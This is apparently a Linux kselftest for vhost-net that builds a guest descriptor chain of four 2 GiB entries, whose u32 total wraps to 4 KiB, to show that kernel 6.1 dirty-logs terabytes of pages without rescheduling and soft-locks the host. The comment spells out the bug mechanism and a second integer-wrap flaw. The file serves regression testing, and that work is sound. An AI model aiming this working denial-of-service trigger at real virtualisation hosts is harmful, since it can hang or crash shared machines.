// SPDX-License-Identifier: GPL-2.0
/*
 * attack_log_iotlb: seed 001 vhost.c-0003, the unbounded dirty-log loop.
 *
 * With VIRTIO_F_ACCESS_PLATFORM (an IOTLB) and VHOST_F_LOG_ALL, 6.1
 * vhost-net logs an RX write with vhost_log_write()'s IOTLB branch, which
 * calls log_write_hva() for every iovec of the buffer with the iovec's
 * full length, not the number of bytes written.  The lengths are the
 * guest's descriptor lens, limited only by an IOTLB mapping (which needs
 * no backing memory) and, per packet, by get_rx_bufs()'s u32 total: a
 * chain of a 4 KiB buffer plus NDESC x 2 GiB descriptors of the same IOVA
 * range adds up to 4 KiB mod 2^32, so it passes as a 4 KiB buffer.  Up to
 * UIO_MAXIOV descriptors make that up to ~2 TiB to log for one frame.
 * log_write_hva() then rescans the memory table at every step and logs
 * each overlapping region in full, one pinned page per bit, without a
 * scheduling point: with the range cut into 63 regions that is
 * ~32 x (2 GiB / 4 KiB) set_bit_to_user() calls per big descriptor.
 *
 * The host sends one 200-byte frame, which lands in the 4 KiB buffer.
 * Hardened behaviour: the frame lands byte-exact, its page is logged,
 * pages that were not written are not marked dirty, and it takes less
 * than BOUND_MS (a device that logs the written bytes does one page;
 * merely adding cond_resched() is not enough).  6.1 works through ~67M
 * page bits in one pass without rescheduling (~1.5 us each under TCG,
 * measured: 2M in 3.2 s), so the soft-lockup watchdog fires and the test
 * VM (softlockup_panic=1) dies.  Expected failure, isolated.
 *
 * Side finding: a single RX descriptor of len >= 2^31 makes get_rx_bufs()'s
 * int datalen wrap, and the frame is silently dropped as an "overrun".
 */
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include "kselftest_harness.h"
#include "attack_util.h"
#include "setup_skip.h"

#define LEN 0x80000000ULL		/* per big descriptor: 2 GiB */
#define NDESC 4				/* big descriptors in the chain */
#define NBIG 63				/* regions cutting the big range */
#define BIG_GPA (4ULL << 30)
#define BIG_IOVA (0x100ULL << 30)
#define BOUND_MS 10000
#define NUM 256

FIXTURE(logiotlb) {
	struct vn_ctx c;
	uint8_t *big, *log;
	size_t log_size;
};

FIXTURE_SETUP(logiotlb)
{
	struct vn_ctx *c = &self->c;
	uint64_t feat = (1ULL << VHOST_F_LOG_ALL) | (1ULL << VIRTIO_F_ACCESS_PLATFORM);
	uint64_t bf = 1ULL << VHOST_BACKEND_F_IOTLB_MSG_V2, logp;
	const uint64_t seg = (LEN / NBIG) & ~0xfffULL;
	struct {
		struct vhost_memory m;
		struct vhost_memory_region r[NBIG + 1];
	} *t;
	int r;

	r = vn_setup_unattached(c, VN_HDR_VHOST, feat, NUM);
	if (r == -EOPNOTSUPP || r == -EINVAL)
		SETUP_SKIP("LOG_ALL + ACCESS_PLATFORM not offered (%d)", r);
	ASSERT_EQ(0, r);
	ASSERT_EQ(0, ioctl(c->d.fd, VHOST_SET_BACKEND_FEATURES, &bf));

	/* The big range is address space only; just its first page is used. */
	self->big = mmap(NULL, LEN, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	ASSERT_NE(MAP_FAILED, self->big);
	memset(self->big, 0xa5, 4096);
	self->log_size = (BIG_GPA + LEN) / 0x1000 / 8 + 4096;
	self->log = mmap(NULL, self->log_size, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	ASSERT_NE(MAP_FAILED, self->log);
	logp = (uintptr_t)self->log;
	ASSERT_EQ(0, ioctl(c->d.fd, VHOST_SET_LOG_BASE, &logp));

	t = calloc(1, sizeof(*t));
	ASSERT_NE(NULL, t);
	t->m.nregions = NBIG + 1;
	t->r[0].guest_phys_addr = VG_GPA_BASE;
	t->r[0].memory_size = c->d.mem_size;
	t->r[0].userspace_addr = (uintptr_t)c->d.mem;
	for (unsigned int i = 0; i < NBIG; i++) {
		t->r[i + 1].guest_phys_addr = BIG_GPA + i * seg;
		t->r[i + 1].memory_size = i + 1 < NBIG ? seg : LEN - i * seg;
		t->r[i + 1].userspace_addr = (uintptr_t)self->big + i * seg;
	}
	ASSERT_EQ(0, ioctl(c->d.fd, VHOST_SET_MEM_TABLE, t));
	free(t);

	/* IOVAs: ring pointers 1:1, arena by GPA, the big range at BIG_IOVA */
	ASSERT_EQ(0, at_iotlb(c->d.fd, VHOST_IOTLB_UPDATE, (uintptr_t)c->d.mem,
			      c->d.mem_size, (uintptr_t)c->d.mem, VHOST_ACCESS_RW));
	ASSERT_EQ(0, at_iotlb(c->d.fd, VHOST_IOTLB_UPDATE, VG_GPA_BASE,
			      c->d.mem_size, (uintptr_t)c->d.mem, VHOST_ACCESS_RW));
	ASSERT_EQ(0, at_iotlb(c->d.fd, VHOST_IOTLB_UPDATE, BIG_IOVA, LEN,
			      (uintptr_t)self->big, VHOST_ACCESS_RW));
	ASSERT_EQ(0, vn_set_backend(c, VN_RXQ, c->tap_fd));
	ASSERT_EQ(0, vn_set_backend(c, VN_TXQ, c->tap_fd));
}

FIXTURE_TEARDOWN(logiotlb)
{
	vn_teardown(&self->c);
	if (self->big && self->big != MAP_FAILED)
		munmap(self->big, LEN);
	if (self->log && self->log != MAP_FAILED)
		munmap(self->log, self->log_size);
}

/* Seed 001 vhost.c-0003: one frame, buffer chain with 4 x 2 GiB logged descriptors: bounded. FAILS on 6.1. */
TEST_F_TIMEOUT(logiotlb, rx_huge_chain_logged_in_bounded_time, 600)
{
	struct vn_ctx *c = &self->c;
	struct vring_desc *d = c->d.vq[VN_RXQ].desc;
	uint8_t frame[200], *buf = vg_alloc(&c->d, 4096, 4096);
	uint32_t id = ~0u, len = 0;
	long long t0, dt;
	int got;

	ASSERT_NE(NULL, buf);
	memset(buf, 0xa5, 4096);
	at_desc(d, 0, vg_gpa(&c->d, buf), 4096, VRING_DESC_F_WRITE | VRING_DESC_F_NEXT, 1);
	for (unsigned int i = 1; i <= NDESC; i++)
		at_desc(d, i, BIG_IOVA, (uint32_t)LEN, VRING_DESC_F_WRITE |
			(i < NDESC ? VRING_DESC_F_NEXT : 0), i < NDESC ? i + 1 : 0);
	vg_publish(&c->d, VN_RXQ, 0);
	ASSERT_EQ(0, vg_kick(&c->d, VN_RXQ));
	vn_make_frame(frame, sizeof(frame), 42);
	t0 = vg_now_ms();
	ASSERT_EQ(0, vn_pkt_send(c, frame, sizeof(frame)));
	got = vg_wait_used(&c->d, VN_RXQ, 500000, &id, &len);
	dt = vg_now_ms() - t0;
	fprintf(stderr, "# used after %lld ms\n", dt);
	ASSERT_EQ(1, got);
	ASSERT_EQ(0u, id);
	ASSERT_EQ(c->hdr_len + sizeof(frame), len);
	ASSERT_EQ(0, memcmp(frame, buf + c->hdr_len, sizeof(frame)));
	ASSERT_TRUE(at_log_test(self->log, vg_gpa(&c->d, buf)));
	ASSERT_LT(dt, BOUND_MS) TH_LOG("logging a %u-byte write took %lld ms", len, dt);
	/* only what was written is dirty: the big range was never written */
	ASSERT_FALSE(at_log_test(self->log, BIG_GPA));
	ASSERT_FALSE(at_log_test(self->log, BIG_GPA + (1ULL << 30)));
}

TEST_HARNESS_MAIN
